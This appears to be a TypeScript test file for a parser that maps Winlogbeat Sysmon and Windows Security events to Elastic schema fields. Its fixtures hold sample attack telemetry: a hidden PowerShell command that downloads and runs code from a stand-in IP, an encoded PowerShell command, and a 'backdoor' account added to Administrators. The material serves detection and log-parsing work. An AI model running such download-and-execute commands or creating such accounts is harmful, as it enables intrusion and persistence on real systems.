import { describe, expect, it } from 'vitest';
import { field, jsonRecord, parseError, parseOne } from './test-fixtures.ts';
import { winlogbeatParser } from './winlogbeat.ts';

const winlog = (file: string) => parseOne(winlogbeatParser, jsonRecord(`winlogbeat/${file}`));

describe('winlogbeat parser: Sysmon', () => {
  it('maps process creation (event 1) as Elastic sysmon pipeline does, keeping event_data raw', () => {
    const doc = winlog('sysmon-1.json');
    expect(doc['@timestamp']).toBe('2024-03-05T10:00:14.324Z');
    expect(field(doc, 'secops.timestamp_nanos')).toBe('2024-03-05T10:00:14.3242341Z');
    expect(field(doc, 'event')).toEqual({
      action: 'Process creation',
      code: '1',
      kind: 'event',
      provider: 'Microsoft-Windows-Sysmon',
      module: 'windows',
      dataset: 'windows.sysmon_operational',
      category: ['process'],
      type: ['start'],
    });
    expect(field(doc, 'process')).toEqual({
      entity_id: '{9F32B55F-7C4E-5F98-5803-000000000500}',
      pid: 3616,
      executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      name: 'powershell.exe',
      command_line:
        '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a\')',
      working_directory: 'C:\\Users\\jsmith\\',
      hash: {
        sha1: 'b6d237154f2e528f0b503b58b025862d66b02b73',
        md5: '7353f60b1739074eb17c5f4dddefe239',
        sha256: 'de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c',
      },
      pe: {
        imphash: '741776aaccfc5b71ff59832dcdcace0f',
        original_file_name: 'PowerShell.EXE',
        company: 'Microsoft Corporation',
        description: 'Windows PowerShell',
        file_version: '10.0.19041.3996 (WinBuild.160101.0800)',
        product: 'Microsoft® Windows® Operating System',
      },
      parent: {
        entity_id: '{9F32B55F-6FDF-5F98-7000-000000000500}',
        pid: 4212,
        executable: 'C:\\Windows\\explorer.exe',
        name: 'explorer.exe',
        command_line: 'C:\\Windows\\Explorer.EXE',
      },
    });
    expect(field(doc, 'user')).toEqual({ id: 'S-1-5-18', name: 'jsmith', domain: 'CORP' });
    expect(field(doc, 'rule.name')).toBe('technique_id=T1059.001,technique_name=PowerShell');
    expect(field(doc, 'related.user')).toEqual(['jsmith']);
    expect(field(doc, 'related.hash')).toHaveLength(3);
    expect(field(doc, 'winlog.event_data.Image')).toBe(
      'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    );
    expect(field(doc, 'winlog.event_data.Hashes')).toMatch(/^SHA1=B6D2/);
    expect(field(doc, 'winlog.record_id')).toBe('20');
    expect(field(doc, 'winlog.task')).toBe('Process Create (rule: ProcessCreate)');
    expect(field(doc, 'ecs.version')).toBe('8.17.0');
  });

  it('maps a network connection (event 3)', () => {
    const doc = winlog('sysmon-3.json');
    expect(field(doc, 'source')).toEqual({
      ip: '192.0.2.42',
      port: 50122,
      domain: 'wks-042.corp.example.com',
    });
    expect(field(doc, 'destination')).toEqual({ ip: '203.0.113.9', port: 80 });
    expect(field(doc, 'network')).toEqual({ transport: 'tcp', direction: 'egress' });
    expect(field(doc, 'event.category')).toEqual(['network']);
    expect(field(doc, 'rule')).toBeUndefined();
  });
});

describe('winlogbeat parser: Security', () => {
  it('maps a network logon (4624)', () => {
    const doc = winlog('security-4624.json');
    expect(doc['@timestamp']).toBe('2024-03-05T09:15:42.123Z');
    expect(field(doc, 'event')).toMatchObject({
      code: '4624',
      action: 'logged-in',
      category: ['authentication'],
      type: ['start'],
      outcome: 'success',
      module: 'system',
      dataset: 'system.security',
      created: '2024-03-05T09:15:43.000Z',
    });
    expect(field(doc, 'user')).toEqual({
      name: 'jsmith',
      domain: 'CORP',
      id: 'S-1-5-21-1111111111-2222222222-3333333333-1105',
    });
    expect(field(doc, 'source')).toEqual({ ip: '198.51.100.45', port: 53176, domain: 'WKS-042' });
    expect(field(doc, 'winlog.logon')).toEqual({ id: '0x8dcdc', type: 'Network' });
    expect(field(doc, 'process')).toEqual({ pid: 0 });
    expect(field(doc, 'host.name')).toBe('DC01.corp.example.com');
    // The shipper's ECS version and other fields are kept.
    expect(field(doc, 'ecs.version')).toBe('8.0.0');
    expect(field(doc, 'agent.type')).toBe('winlogbeat');
    expect(field(doc, 'winlog.event_data.TargetUserName')).toBe('jsmith');
    expect(field(doc, 'winlog.record_id')).toBe('5100');
  });

  it('expands dotted keys and maps a failed logon (4625)', () => {
    const doc = winlog('security-4625-dotted.json');
    expect(field(doc, 'event.outcome')).toBe('failure');
    expect(field(doc, 'event.action')).toBe('logon-failed');
    expect(field(doc, 'user')).toEqual({ name: 'administrator', domain: 'CORP', id: 'S-1-0-0' });
    expect(field(doc, 'source')).toEqual({ ip: '203.0.113.200', domain: 'SRV-FILE01' });
    expect(field(doc, 'process')).toEqual({
      executable: 'C:\\Windows\\System32\\svchost.exe',
      name: 'svchost.exe',
      pid: 6988,
    });
    expect(field(doc, 'winlog.logon.type')).toBe('RemoteInteractive');
    expect(field(doc, 'host.name')).toBe('SRV-FILE01');
  });

  it('maps process creation (4688) with hex process ids', () => {
    const doc = winlog('security-4688.json');
    expect(field(doc, 'process')).toEqual({
      executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      name: 'powershell.exe',
      pid: 7532,
      command_line: 'powershell.exe -NoProfile -EncodedCommand SQBFAFgA',
      parent: { executable: 'C:\\Windows\\explorer.exe', name: 'explorer.exe', pid: 4776 },
    });
    expect(field(doc, 'user.name')).toBe('jsmith');
    expect(field(doc, 'event.category')).toEqual(['process']);
    expect(field(doc, 'event.outcome')).toBe('success');
  });

  it('maps a created user account (4720) with the actor and the target', () => {
    const doc = winlog('security-4720.json');
    expect(field(doc, 'user')).toEqual({
      name: 'jsmith',
      domain: 'CORP',
      id: 'S-1-5-21-1111111111-2222222222-3333333333-1105',
      target: {
        name: 'backdoor',
        domain: 'CORP',
        id: 'S-1-5-21-1111111111-2222222222-3333333333-1337',
      },
    });
    expect(field(doc, 'event.type')).toEqual(['user', 'creation']);
    expect(field(doc, 'related.user')).toEqual(['jsmith', 'backdoor']);
  });

  it('maps a member added to a local group (4732)', () => {
    const doc = winlog('security-4732.json');
    expect(field(doc, 'group')).toEqual({
      name: 'Administrators',
      domain: 'Builtin',
      id: 'S-1-5-32-544',
    });
    expect(field(doc, 'user.target')).toEqual({
      id: 'S-1-5-21-1111111111-2222222222-3333333333-1337',
      name: 'Backdoor, Account',
    });
    expect(field(doc, 'user.name')).toBe('jsmith');
    expect(field(doc, 'event.action')).toBe('added-member-to-group');
  });
});

describe('winlogbeat parser: detection and errors', () => {
  it('detects Winlogbeat documents only', () => {
    expect(winlogbeatParser.detect(jsonRecord('winlogbeat/security-4624.json'))).toBe(true);
    expect(winlogbeatParser.detect({ kind: 'json', value: { winlog: {} } })).toBe(false);
    expect(winlogbeatParser.detect({ kind: 'json', value: { 'winlog.channel': 'Security' } })).toBe(
      false,
    );
  });

  it('rejects documents it cannot read, naming the field', () => {
    expect(
      parseError(winlogbeatParser, {
        kind: 'json',
        value: { winlog: { channel: 'x' }, '@timestamp': 'noon' },
      }).message,
    ).toBe('@timestamp: not a valid timestamp');
    expect(parseError(winlogbeatParser, { kind: 'json', value: { winlog: 'x' } }).message).toBe(
      'winlog: expected an object, got a string',
    );
    expect(
      parseError(winlogbeatParser, { kind: 'json', value: { winlog: {}, event: 4624 } }).path,
    ).toBe('event');
    expect(
      parseError(winlogbeatParser, {
        kind: 'json',
        value: { winlog: { channel: 'a' }, 'winlog.channel': 'b' },
      }).path,
    ).toBe('winlog.channel');
    expect(parseError(winlogbeatParser, { kind: 'json', value: null }).message).toBe(
      'expected a JSON object, got null',
    );
  });

  it('never changes the record and copies only the objects it adds to', () => {
    for (const file of ['sysmon-1.json', 'security-4624.json', 'security-4732.json']) {
      const record = jsonRecord(`winlogbeat/${file}`);
      const before = structuredClone(record);
      const doc = parseOne(winlogbeatParser, record);
      expect(record).toEqual(before);
      const value = record.kind === 'json' ? (record.value as Record<string, unknown>) : {};
      // What the mapping does not touch is the record's own object, not a copy.
      expect(doc.agent).toBe(value.agent);
      expect(field(doc, 'winlog.event_data')).toBe(
        field(record.kind === 'json' ? record.value : null, 'winlog.event_data'),
      );
    }
  });

  it('adds new field sets after those of the document, in the order of the mapping', () => {
    const doc = parseOne(winlogbeatParser, {
      kind: 'json',
      value: {
        '@timestamp': '2024-03-05T10:00:14.324Z',
        message: 'x',
        winlog: {
          channel: 'Microsoft-Windows-Sysmon/Operational',
          provider_name: 'Microsoft-Windows-Sysmon',
          event_id: 3,
          event_data: {
            User: 'CORP\\jsmith',
            Image: 'C:\\x\\a.exe',
            SourceIp: '192.0.2.1',
            DestinationIp: '203.0.113.9',
            Protocol: 'tcp',
          },
        },
      },
    });
    // related.user goes last when the mapping put nothing else in `related` (no hashes).
    expect(Object.keys(doc)).toEqual([
      '@timestamp',
      'message',
      'winlog',
      'ecs',
      'event',
      'user',
      'process',
      'source',
      'destination',
      'network',
      'related',
    ]);
    expect(Object.keys(field(doc, 'event') as object)).toEqual([
      'kind',
      'code',
      'provider',
      'module',
      'dataset',
      'category',
      'type',
      'action',
    ]);
    expect(field(doc, 'winlog.event_id')).toBe('3');
  });
});
